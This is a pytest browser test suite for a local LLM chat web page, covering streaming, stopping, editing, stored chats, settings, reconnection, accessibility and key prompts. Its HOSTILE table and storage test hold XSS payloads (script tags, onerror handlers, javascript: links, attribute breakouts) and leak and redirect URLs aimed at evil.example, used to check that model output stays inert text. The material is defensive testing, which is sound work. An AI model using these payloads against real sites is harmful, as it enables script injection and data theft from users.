"""The chat page as its users meet it: in Chromium, over a real server whose workers answer from a script."""

import json
import socket
from typing import Any

import pytest
from chrome import Page
from stand import Stand, stand

from aiollm.api import ws

pytestmark = pytest.mark.browser

ANSWERS = "document.querySelectorAll('.assistant:not(.running)')"


async def ask(page: Page, text: str) -> None:
    """Type into what has the focus, and send."""
    await page.type(text)
    await page.press("Enter")


async def answered(page: Page, count: int = 1) -> None:
    """Wait until so many answers are complete."""
    await page.until(f"{ANSWERS}.length === {count} && !document.querySelector('.running')")


async def held(page: Page, served: Stand, text: str, question: str = "hi", steps: int = 4) -> None:
    """Ask, and stop the workers after some steps of the answer."""
    served.workers.say(text)
    served.workers.held = True
    await ask(page, question)
    core = served.engine.core
    assert core is not None
    await served.until(lambda: bool(core.ledger.running))
    for _ in range(steps):
        served.workers.step()
    await page.until("document.querySelector('.assistant .text').innerText.length > 0")


def prompts(served: Stand) -> list[str]:
    """Collects every prompt that reaches the workers; they answer "fine"."""
    seen: list[str] = []

    def reply(prompt: list[int], seed: int) -> list[int]:
        text = bytes(token if token < 256 else ord("|") for token in prompt).decode()
        if not seen or seen[-1] != text:
            seen.append(text)
        return list(b"fine")

    served.workers.reply = reply
    return seen


def test_an_answer_streams_in_and_its_figures_are_shown(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        await held(page, served, "One **two** three", steps=8)
        assert (await page.text(".assistant .text")) in ("One **tw", "One **two", "One two")
        assert await page.value("document.querySelector('.assistant').getAttribute('aria-busy')") == "true"
        assert await page.value("document.querySelector('#send').hidden && !document.querySelector('#stop').hidden")
        served.workers.release()
        await answered(page)
        assert await page.text(".assistant .text") == "One two three"
        assert await page.text(".assistant strong") == "two"
        figures = await page.text(".figures")
        assert "18 tokens" in figures and "tokens/s" in figures and "first token" in figures
        assert await page.value("document.querySelector('#announcer').textContent") == "Answer: One **two** three"

    chatting(scenario)


@pytest.mark.parametrize("way", ["button", "Escape"])
def test_stop_aborts_in_the_engine_and_keeps_what_came(chatting: Any, way: str) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        await held(page, served, "x" * 300)
        await (page.click("#stop") if way == "button" else page.press("Escape"))
        core = served.engine.core
        assert core is not None
        await served.until(lambda: core.idle)
        await answered(page)
        assert await page.text(".note") == "Stopped."
        assert set(await page.text(".assistant .text")) == {"x"}
        await page.until("document.querySelector('.figures').innerText.includes('prompt tokens cached')")
        served.workers.release()
        served.workers.say("on we go")
        await ask(page, "again")
        await answered(page, 2)

    chatting(scenario)


def test_editing_a_message_asks_again_from_there(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        seen = prompts(served)
        await ask(page, "first")
        await answered(page)
        await ask(page, "second")
        await answered(page, 2)
        await page.click(".user .plain")  # Edit, of the first message
        await page.value("document.activeElement.select()")
        await ask(page, "better")
        await answered(page)
        assert await page.text(".user .text") == "better"
        assert "first" not in seen[-1] and "second" not in seen[-1] and "|user\nbetter|" in seen[-1]
        assert await page.text("#title") == "better"

    chatting(scenario)


def test_escape_leaves_a_message_as_it_was(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        prompts(served)
        await ask(page, "first")
        await answered(page)
        await page.click(".user .plain")
        await page.type("changed")
        await page.press("Escape")
        assert await page.text(".user .text") == "first"

    chatting(scenario)


def test_regenerate_puts_another_answer_in_place(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        served.workers.say("old")
        await ask(page, "hi")
        await answered(page)
        served.workers.say("new")
        await page.click(".assistant footer .actions button:last-child")
        await page.until("document.querySelector('.assistant .text').innerText === 'new'")
        await answered(page)
        assert await page.text(".user .text") == "hi"

    chatting(scenario)


def test_chats_are_kept_opened_deleted_and_brought_back(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        seen = prompts(served)
        await ask(page, "one")
        await answered(page)
        await page.click("#new")
        assert await page.value("document.activeElement.id") == "prompt"
        await ask(page, "two")
        await answered(page)
        assert "one" not in seen[-1]
        await page.open(served.url + "/?again")
        await page.until("document.querySelectorAll('#chats li').length === 2")
        assert await page.text("#chats .chat") == "two\none"
        await page.click("#chats li:last-child .chat")
        assert await page.text(".user .text") == "one" and await page.text(".assistant .text") == "fine"
        await page.click("#chats li:last-child .drop")
        assert await page.text("#chats .chat") == "two"
        await page.click("#notice button")
        assert await page.text("#chats .chat") == "one\ntwo"
        assert await page.value("Object.keys(localStorage).filter(key => key.startsWith('aiollm.chat.')).length") == 2

    chatting(scenario)


def test_another_chat_can_be_read_while_one_is_answered(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        prompts(served)
        await ask(page, "one")
        await answered(page)
        await page.click("#new")
        await held(page, served, "a long answer", "two")
        await page.click("#chats li:last-child .chat")
        assert await page.text(".user .text") == "one"
        assert await page.value("document.querySelectorAll('#chats .pulse').length") == 1
        served.workers.release()
        await page.until("document.querySelectorAll('#chats .pulse').length === 0")
        await page.click("#chats li:first-child .chat")
        assert await page.text(".assistant .text") == "a long answer"

    chatting(scenario)


def test_settings_reach_the_engine_and_are_kept(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        await page.click("#open-settings")
        await page.type("Be brief.")
        for id, value in (("temperature", "0.7"), ("max-tokens", "5")):
            await page.value(f"document.getElementById({id!r}).focus()")
            await page.type(value)
        await page.press("Enter")
        await page.until("!document.querySelector('#settings').open")
        await page.value("document.querySelector('#prompt').focus()")
        seen = prompts(served)
        served.workers.held = True
        await ask(page, "hi")
        core = served.engine.core
        assert core is not None
        await served.until(lambda: bool(core.ledger.running))
        sampling = next(iter(core.ledger.running.values())).request.sampling
        assert (sampling.temperature, sampling.max_tokens) == (0.7, 5)
        served.workers.release()
        await answered(page)
        assert seen[0].startswith("|system\nBe brief.|\n|user\nhi|")
        await page.open(served.url + "/?again")
        await page.click("#open-settings")
        fields = "[...document.querySelectorAll('#settings input, #settings textarea')].map(field => field.value)"
        assert await page.value(fields) == ["Be brief.", "0.7", "5"]

    chatting(scenario)


def test_a_setting_out_of_range_is_not_taken(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        await page.click("#open-settings")
        await page.value("document.querySelector('#temperature').focus()")
        await page.type("9")
        await page.press("Enter")
        assert await page.value("document.querySelector('#settings').open")
        assert await page.value("localStorage.getItem('aiollm.settings')") is None

    chatting(scenario)


def test_a_refusal_of_the_server_is_shown(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        await ask(page, "x" * 600)
        await answered(page)
        assert "maximum context length is 512 tokens" in await page.text(".note")

    chatting(scenario)


def test_the_page_reconnects_after_the_server_restarts(chatting: Any, folder: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        async with stand(folder) as first:
            port = first.port
            await page.open(first.url + "/")
            await page.until("document.querySelector('#status').dataset.state === 'ready'")
            await held(page, first, "never whole")
            await first.engine.drain(0)
        await page.until("document.querySelector('#status').dataset.state === 'lost'")
        assert "Not connected" in await page.text("#status")
        await answered(page)
        assert await page.text(".note") == "the server is shutting down"
        await ask(page, "kept here")
        assert await page.value("document.querySelector('#prompt').value") == "kept here"
        async with stand(folder, port=port) as second:
            seen = prompts(second)
            await page.until("document.querySelector('#status').dataset.state === 'ready'")
            await page.press("Enter")
            await answered(page, 2)
            assert "kept here" in seen[-1]
            await page.open(served.url + "/?again")
        page.requests.clear()  # of two other servers

    chatting(scenario)


def test_an_answer_whose_connection_is_lost_says_so_and_can_be_asked_again(
    chatting: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        await held(page, served, "a long answer")
        with monkeypatch.context() as patched:
            patched.setattr(ws, "MAX_SILENT_BEATS", 0)  # the server gives its clients up
            await page.until("document.querySelector('.note').innerText.startsWith('The connection was lost')")
        core = served.engine.core
        assert core is not None
        await served.until(lambda: core.idle)
        served.workers.release()
        await page.until("document.querySelector('#status').dataset.state === 'ready'")
        await page.click(".assistant footer .actions button:last-child")
        await page.until("document.querySelector('.assistant .text').innerText === 'a long answer'")
        await answered(page)

    chatting(scenario, keep_alive=0.2)


def test_loading_is_shown_with_its_progress(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        served.engine.phase, served.engine.progress = "reading weights", 0.42
        await page.until("document.querySelector('#state').innerText === 'Loading the model: reading weights 42 %'")
        served.start()
        await page.until("document.querySelector('#status').dataset.state === 'ready'")
        await ask(page, "hi")
        await answered(page)

    chatting(scenario, loading=True)


def test_the_second_turn_comes_from_the_prefix_cache_and_the_page_says_how_much(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        served.workers.say("A fair answer.")
        for turn, question in enumerate(("one", "two"), 1):
            await ask(page, question)
            await answered(page, turn)
        first, second = (await page.text(".cached")).splitlines()
        numbers = [int(word) for word in second.split() if word.isdigit()]
        assert first.startswith("0 of ") and second.endswith(" prompt tokens cached")
        assert numbers[0] > numbers[1] / 2
        width = "document.querySelectorAll('.bar > span')[1].getBoundingClientRect().width"
        assert await page.value(width) > 0

    chatting(scenario)


HOSTILE = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>"
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "link": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [d](vbscript:x) <javascript:alert(1)> "
    "[c](data:text/html,<script>alert(1)</script>)",
    "breakout": '[x](https://a.example/"onmouseover="alert(1)) `</code><script>alert(1)</script>` '
    '```"><img src=x onerror=alert(1)>',
    "fence": '```"><img/src/onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
    "image": "![](https://evil.example/leak?q=secret) ![x](//evil.example/y) "
    "<link rel=stylesheet href=//evil.example/z>",
    "table": "|<b onclick=alert(1)>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|<style>*{display:none}</style>|",
    "nested": "> " * 40 + "- " * 40 + "*" * 60 + "[" * 60,
    "controls": "\u202e\u0000\u2028<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_output_stays_text(chatting: Any, name: str) -> None:
    """No script runs, nothing is loaded (the fixture looks at requests and dialogs), and no element is made of it."""

    async def scenario(page: Page, served: Stand) -> None:
        served.workers.say(HOSTILE[name])
        await ask(page, "hi")
        await answered(page)
        made = "[...document.querySelectorAll('.assistant .text *')]"
        tags = set(await page.value(f"{made}.map(element => element.localName)"))
        assert not {"script", "img", "svg", "iframe", "b", "style", "link", "base", "meta"} & tags
        links = f"{made}.filter(element => element.href).map(link => [link.protocol, link.rel, link.target])"
        for protocol, rel, target in await page.value(links):
            assert protocol == "https:" and "noopener" in rel and target == "_blank"
        attributes = await page.value(f"{made}.flatMap(element => element.getAttributeNames())")
        assert not [name for name in attributes if name.startswith("on")]
        if name in ("script", "fence", "table"):
            assert "onerror=alert(1)" in await page.text(".assistant .text")
        await page.open(served.url + "/?again")  # and as it comes back from the browser's storage
        await page.click("#chats .chat")
        await answered(page)

    chatting(scenario)


def test_hostile_storage_is_read_with_care(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        chats: list[Any] = [
            1, "{", {"id": "c2", "messages": 5}, {"id": "c3", "messages": [None, 7, {"role": "x"}, {"role": "user"}]},
            {"id": "c4", "title": "<img src=x onerror=alert(1)>", "messages": [{"role": "assistant", "figures": 3}]},
        ]  # fmt: skip
        for index, chat in enumerate(chats):
            value = chat if isinstance(chat, str) else json.dumps(chat)
            await page.value(f"localStorage.setItem('aiollm.chat.c{index}', {value!r})")
        await page.open(served.url + "/?again")
        await page.until("document.querySelector('#status').dataset.state === 'ready'")
        assert sorted((await page.text("#chats .chat")).splitlines()) == ["<img src=x onerror=alert(1)>", "Chat"]
        await page.click("#chats li:last-child .chat")
        await page.click("#chats li:first-child .chat")

    chatting(scenario)


@pytest.mark.parametrize("width", [320, 360])
def test_a_phone_needs_no_sideways_scrolling(chatting: Any, width: int, rich: str) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        await page.size(width, 740, mobile=True)
        widest = "Math.max(...['html', '#log'].map(name => document.querySelector(name).scrollWidth))"
        overflow = f"{widest} > innerWidth"
        assert not await page.value(overflow)
        served.workers.say(rich + "\n\n" + "w" * 60)
        await ask(page, "y" * 60)
        await answered(page)
        assert not await page.value(overflow)
        inside = "getBoundingClientRect()"
        assert await page.value(f"document.querySelector('#send').{inside}.right <= innerWidth")
        await page.until(f"document.querySelector('#sidebar').{inside}.right <= 0")
        await page.click("#menu")
        await page.until(f"document.querySelector('#sidebar').{inside}.left === 0")
        assert await page.value("document.querySelector('#menu').getAttribute('aria-expanded')") == "true"
        await page.press("Escape")
        await page.until(f"document.querySelector('#sidebar').{inside}.right <= 0")
        await page.click("#open-settings")
        assert not await page.value(overflow)

    chatting(scenario)


async def tab_to(page: Page, condition: str, back: bool = False) -> None:
    """Press Tab until the focus is where it should be."""
    for _ in range(40):
        if await page.value(f"(element => {condition})(document.activeElement)"):
            return
        await page.press("Tab", shift=back)
    raise AssertionError(f"Tab never reached {condition}")


def test_everything_can_be_done_from_the_keyboard(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        seen = prompts(served)
        await page.type("line one")
        await page.press("Enter", shift=True)
        await ask(page, "line two")
        await answered(page)
        assert "line one\nline two|" in seen[-1]
        assert await page.value("document.activeElement.id") == "prompt"
        await tab_to(page, "element.textContent === 'Regenerate'", back=True)
        assert await page.value("document.activeElement.matches(':focus-visible')")
        await page.press("Enter")
        await answered(page)
        await tab_to(page, "element.textContent === 'Edit'", back=True)
        await page.press("Enter")
        assert await page.value("document.activeElement.localName") == "textarea"
        await page.type(" and more")
        await page.press("Enter")
        await answered(page)
        await tab_to(page, "element.id === 'open-settings'", back=True)
        await page.press("Enter")
        assert await page.value("document.activeElement.id") == "system"
        await page.press("Escape")
        assert await page.value("document.activeElement.id") == "open-settings"
        await tab_to(page, "element.classList.contains('drop')", back=True)
        await page.press("Enter")
        assert await page.text("#chats .chat") == ""
        assert await page.value("document.activeElement.id") == "new"

    chatting(scenario)


def test_every_control_has_a_name_for_screen_readers(chatting: Any, rich: str) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        served.workers.say(rich)
        await ask(page, "hi")
        await answered(page)
        await page.call("Accessibility.enable")
        nodes = (await page.call("Accessibility.getFullAXTree"))["nodes"]
        controls = {"button", "textbox", "spinbutton", "link", "dialog", "img"}
        seen = [node for node in nodes if not node["ignored"]]
        found = [node["name"]["value"] for node in seen if node["role"]["value"] in controls]
        assert len(found) > 10 and all(found), found
        roles = {node["role"]["value"] for node in seen}
        assert {"main", "complementary", "navigation", "article", "status", "heading", "table"} <= roles
        assert await page.value("document.querySelector('#announcer').getAttribute('aria-live')") == "polite"

    chatting(scenario)


def test_colours_follow_the_system_until_they_are_chosen(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        async def light() -> bool:
            colour = await page.value("getComputedStyle(document.body).backgroundColor.match(/\\d+/g).map(Number)")
            return sum(colour) > 3 * 128

        await page.prefer("dark")
        assert not await light()
        await page.prefer("light")
        assert await light()
        await page.click("#theme")
        await page.click("#theme")
        assert not await light()
        await page.open(served.url + "/?again")
        assert not await light()
        await page.click("#theme")
        assert await light()

    chatting(scenario)


def test_reading_further_up_is_not_disturbed_by_new_text(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        await page.size(800, 400)
        await held(page, served, "line\n\n" * 60, steps=200)
        log = "document.querySelector('#log')"
        await page.until(f"{log}.scrollHeight - {log}.scrollTop - {log}.clientHeight < 2 && {log}.scrollTop > 0")
        await page.value(f"{log}.scrollTop = 0")
        await page.until("!document.querySelector('#latest').hidden")
        served.workers.release()
        await answered(page)
        assert await page.value(f"{log}.scrollTop") == 0
        await page.click("#latest")
        await page.until(f"{log}.scrollTop > 0 && document.querySelector('#latest').hidden")

    chatting(scenario)


KEY = "p/ss+w?rd-~}=="


def test_a_server_with_keys_is_asked_for_one_and_opened_with_it(chatting: Any, folder: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        open_lock, focus = "document.querySelector('#lock').open", "document.activeElement.id"
        async with stand(folder, keys=("other", KEY)) as locked:
            await page.open(locked.url + "/")
            await page.until(open_lock)
            assert await page.text("#state") == "The server asks for a key."
            assert await page.value(focus) == "key" and await page.text("#key-error") == ""
            await ask(page, "no key has spaces")
            assert await page.value("document.querySelector('#key:invalid').select()") is None
            await ask(page, "not-this-one")
            await page.until("document.querySelector('#key-error').innerText === 'The server does not know this key.'")
            assert await page.value("document.querySelector('#key').getAttribute('aria-invalid')") == "true"
            assert await page.value(f"document.querySelector('#key').value === '' && {focus} === 'key'")

            await page.press("Escape")
            await page.until(f"!{open_lock}")
            await page.value("document.querySelector('#prompt').focus()")
            await ask(page, "hi")  # what cannot be sent yet stays, and the key is asked for
            await page.until(open_lock)
            await page.press("Escape")
            await page.click("#unlock")
            await page.until(open_lock)
            await ask(page, KEY)
            await page.until("document.querySelector('#status').dataset.state === 'ready'")
            assert not await page.value(open_lock) and not await page.value("!document.querySelector('#unlock').hidden")
            await page.value("document.querySelector('#prompt').focus()")
            locked.workers.say("opened")
            await page.press("Enter")
            await answered(page)
            assert (await page.text(".user .text"), await page.text(".assistant .text")) == ("hi", "opened")

            await page.open(locked.url + "/?again")  # the tab remembers it
            await page.until("document.querySelector('#status').dataset.state === 'ready'")
            assert not await page.value(open_lock)
            assert KEY in await page.value("JSON.stringify({...sessionStorage})")
            assert KEY not in await page.value("JSON.stringify({...localStorage}) + location.href + document.cookie")
            assert not [url for url in page.requests if "key" in url]
            await page.open(served.url + "/?again")
        page.requests.clear()  # of another server

    chatting(scenario)


def test_a_name_that_the_server_does_not_know_is_explained_on_the_page(chatting: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        await page.open(f"http://chat.test:{served.port}/")
        await page.until("document.querySelector('#status').dataset.state === 'stopped'")
        assert "Host 'chat.test:" in await page.text("#state") and "--allowed_origins" in await page.text("#state")
        page.requests.clear()  # under the other name

    chatting(scenario)


def test_a_proxys_name_is_let_in_when_it_is_allowed(chatting: Any, folder: Any) -> None:
    async def scenario(page: Page, served: Stand) -> None:
        with socket.create_server(("127.0.0.1", 0)) as free:
            port = free.getsockname()[1]
        async with stand(folder, port=port, allowed_origins=(f"http://chat.test:{port}",)) as proxied:
            await page.open(f"http://chat.test:{proxied.port}/")
            await page.until("document.querySelector('#status').dataset.state === 'ready'")
            await page.open(served.url + "/?again")
        page.requests.clear()  # of another server

    chatting(scenario)
